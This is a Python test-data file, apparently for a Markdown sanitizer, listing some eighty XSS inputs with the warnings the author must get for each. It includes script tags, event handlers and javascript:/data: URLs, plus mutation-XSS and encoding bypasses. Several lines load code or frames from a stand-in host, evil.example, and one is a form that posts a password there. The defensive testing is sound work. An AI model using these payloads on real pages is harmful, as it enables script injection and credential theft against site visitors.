"""Markdown that attacks readers. Each case is a text and what the author must be told of it."""

from __future__ import annotations

from typing import NamedTuple


class Attack(NamedTuple):
    """`told` are pieces of what the author hears, in order of lines; empty where Markdown itself makes it harmless."""

    name: str
    text: str
    told: tuple[str, ...]


ATTACKS = (
    # Programs, plain and dressed up.
    Attack("script", "<script>alert(1)</script>", ("<script>",)),
    Attack("script-from-elsewhere", "Hi <SCRIPT SRC=//evil.example/x.js></SCRIPT >", ("<script>",)),
    Attack("script-slash", "<script/x>alert(1)</script>", ("<script>",)),
    Attack("script-line-break", "<script\n>alert(1)</script\n>", ("<script>",)),
    Attack("script-unclosed", "Hi <script>alert(1)", ("<script>",)),
    Attack("script-in-script", "<scr<script>ipt>alert(1)</scr</script>ipt>", ("<script>",)),
    Attack("script-after-comment", "<!--><script>alert(1)</script>-->", ("<script>",)),
    Attack("script-after-bang-comment", "<!-- --!><script>alert(1)</script>", ("<script>",)),
    Attack("script-in-cdata", "<![CDATA[<script>alert(1)</script>]]>", ("<script>",)),
    Attack("script-in-attribute", '<p title="</p><script>alert(1)</script>">x</p>', ("<script>",)),
    Attack("script-in-noscript", '<noscript><p title="</noscript><script>alert(1)</script>">',
           ("<noscript>", "<script>")),
    Attack("script-in-markdown-block", '<div markdown="1">\n\n<script>alert(1)</script>\n\n</div>', ("<script>",)),
    Attack("script-in-table", "| a |\n|---|\n| <script>alert(1)</script> |", ("<script>",)),
    Attack("script-in-footnote", "A[^1]\n\n[^1]: <script>alert(1)</script>", ("<script>",)),
    Attack("script-in-abbreviation", "AIS\n\n*[AIS]: \"><script>alert(1)</script>", ()),
    Attack("script-in-heading", "# <script>alert(1)</script>\n\n[TOC]", ("<script>",)),
    # Handlers.
    Attack("handler", "<img src=x onerror=alert(1)>", ("'onerror' of <img>",)),
    Attack("handler-slashes", "<img/src='x'/onerror=alert(1)>", ()),
    Attack("handler-line-breaks", "<img src=x\nonerror\n=\nalert(1)>", ("'onerror' of <img>",)),
    Attack("handler-capitals", "<b OnMouseOver='alert(1)'>x</b>", ("'onmouseover' of <b>",)),
    Attack("handler-in-attribute-list", "# Hi {: onclick=alert(1) }", ("'onclick' of <h1>",)),
    Attack("handler-on-a-link", "[x](https://ok.example){: onclick='alert(1)' }", ("'onclick' of <a>",)),
    Attack("handler-after-grave", "<img src=`x`onerror=alert(1)>", ()),
    Attack("handler-on-details", "<details open ontoggle=alert(1)><summary>x</summary></details>", ("'ontoggle'",)),
    Attack("handler-on-body", "<body onload=alert(1)>", ("<body>",)),
    Attack("handler-in-title-of-link", '[x](https://ok.example "\\" onclick=alert(1) \\"")', ()),
    Attack("handler-in-alt", '![" onerror="alert(1)](x.png)', ()),
    Attack("handler-in-reference", "[x][1]\n\n[1]: https://ok.example/\"onclick=\"alert(1)", ()),
    Attack("handler-in-language-of-code", "``` {.x onclick=alert(1)}\ncode\n```", ()),
    Attack("handler-popover", "<b popover id=x onbeforetoggle=alert(1)>x</b>", ("'popover'", "'onbeforetoggle'")),
    # Addresses that are programs.
    Attack("javascript", "[x](javascript:alert(1))", ("'javascript:alert(1)' of <a>",)),
    Attack("javascript-capitals", "[x](JaVaScRiPt:alert(1))", ("'JaVaScRiPt:alert(1)' of <a>",)),
    Attack("javascript-entities", "[x](&#106;avascript:alert(1))", ("'javascript:alert(1)' of <a>",)),
    Attack("javascript-hex-entities", "<a href='&#x6A;avascript&colon;alert(1)'>x</a>", ("of <a>",)),
    Attack("javascript-tab", "<a href='java\tscript:alert(1)'>x</a>", ("of <a>",)),
    Attack("javascript-line-break", "<a href='java&NewLine;script:alert(1)'>x</a>", ("of <a>",)),
    Attack("javascript-control", "<a href='&#1;javascript:alert(1)'>x</a>", ("of <a>",)),
    Attack("javascript-autolink", "<javascript:alert(1)>", ("<javascript:alert(1)>",)),
    Attack("javascript-reference", "[x][1]\n\n[1]: javascript:alert(1)", ("of <a>",)),
    Attack("javascript-picture", "![x](javascript:alert(1))", ("of <img>",)),
    Attack("javascript-in-attribute-list", "[x](#y){: href=javascript:alert(1) }", ("of <a>",)),
    Attack("vbscript", "[x](vbscript:msgbox(1))", ("'vbscript:msgbox(1)' of <a>",)),
    Attack("data-link", "[x](data:text/html;base64,PHNjcmlwdD4=)", ("of <a>",)),
    Attack("data-picture", "![x](data:image/svg+xml;base64,PHN2Zz4=)", ("of <img>",)),
    Attack("blob", "[x](blob:https://evil.example/1)", ("of <a>",)),
    Attack("file", "[x](file:///etc/passwd)", ("of <a>",)),
    Attack("quotation", "<blockquote cite='javascript:alert(1)'>x</blockquote>", ("of <blockquote>",)),
    # Other pages inside this one, and what acts for the reader.
    Attack("iframe", "<iframe src='https://evil.example'></iframe>", ("<iframe>",)),
    Attack("iframe-document", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>", ("<iframe>",)),
    Attack("object", "<object data='data:text/html,x'></object>", ("<object>",)),
    Attack("embed", "<embed src='https://evil.example/x.swf'>", ("<embed>",)),
    Attack("applet", "<applet code=x></applet>", ("<applet>",)),
    Attack("frameset", "<frameset><frame src=javascript:alert(1)></frameset>", ("<frameset>",)),
    Attack("portal", "<portal src='https://evil.example'></portal>", ("<portal>",)),
    Attack("form", "<form action='https://evil.example'><input name=password><button>OK</button></form>",
           ("<form>", "<input>", "<button>")),
    Attack("form-attribute", "<b formaction='javascript:alert(1)'>x</b>", ("'formaction'",)),
    Attack("base", "<base href='https://evil.example/'>", ("<base>",)),
    Attack("meta-refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>", ("<meta>",)),
    Attack("meta-policy", "<meta http-equiv=Content-Security-Policy content=''>", ("<meta>",)),
    Attack("link", "<link rel=stylesheet href='https://evil.example/x.css'>", ("<link>",)),
    Attack("target", "<a href='https://ok.example' target=_blank ping='https://evil.example'>x</a>",
           ("'target'", "'ping'")),
    Attack("identity", "<a rel=me href='https://social.example/@evil'>me</a>", ("'rel' of <a>",)),
    # Looks.
    Attack("style", "<style>article{display:none}</style>", ("<style>",)),
    Attack("style-attribute", "<p style='position:fixed;inset:0'>x</p>", ("'style' of <p>",)),
    Attack("style-in-attribute-list", "x\n{: style='background:url(//evil.example)' }", ("'style' of <p>",)),
    Attack("background", "<table background='https://evil.example/x.png'><tr><td>x</td></tr></table>",
           ("'background'",)),
    Attack("class-of-the-theme", "<p class='notice disclosure'>Paid by nobody</p>", ("'notice'", "'disclosure'")),
    # Drawings and formulas, where other rules of parsing hold.
    Attack("svg", "<svg/onload=alert(1)>", ("<svg>",)),
    Attack("svg-script", "<svg><script>alert(1)</script></svg>", ("<svg>",)),
    Attack("svg-title", "<svg></p><title><a id='</title><img src=x onerror=alert(1)>'>", ("<svg>",)),
    Attack("svg-foreign", "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>", ("<svg>",)),
    Attack("svg-use", "<svg><use href='data:image/svg+xml,x#x'/></svg>", ("<svg>",)),
    Attack("math-confusion",
           "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
           ("<math>",)),
    Attack("math-link", "<math><maction xlink:href='javascript:alert(1)'>x</maction></math>", ("<math>",)),
    Attack("textarea-confusion", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>", ("<textarea>",)),
    Attack("template", "<template><script>alert(1)</script></template>", ("<template>",)),
    Attack("xmp", "<xmp><p title='</xmp><script>alert(1)</script>'></xmp>", ("<xmp>",)),
    # Pictures with more addresses than one sees.
    Attack("srcset", "<img src=x.png srcset='https://evil.example/x 1x' alt=x>", ("'srcset' of <img>",)),
    Attack("picture-source", "<picture><source srcset='https://evil.example/x'><img src=x.png></picture>",
           ("<picture>",)),
    Attack("video", "<video src=x poster='https://evil.example/x' onplay=alert(1)></video>", ("<video>",)),
    Attack("dynsrc", "<img dynsrc='javascript:alert(1)' lowsrc='javascript:alert(1)'>", ("'dynsrc'", "'lowsrc'")),
    Attack("image-map", "<img src=x.png usemap=#m><map name=m><area href='javascript:alert(1)'></map>",
           ("'usemap'", "<map>", "<area>")),
    # Out of the text, into the page.
    Attack("closing-tags", "</div></article></main><header>Approved</header>", ("<header>",)),
    Attack("plaintext", "<plaintext>the rest", ("<plaintext>",)),
    Attack("doctype", "<!DOCTYPE html><html><head><title>x</title></head></html>", ("<html>", "<head>")),
    Attack("processing-instruction", "<?xml-stylesheet href='javascript:alert(1)'?>", ()),
    Attack("slot", "<slot name=x></slot><x-evil onclick=alert(1)>x</x-evil>", ("<slot>", "<x-evil>")),
)  # fmt: skip
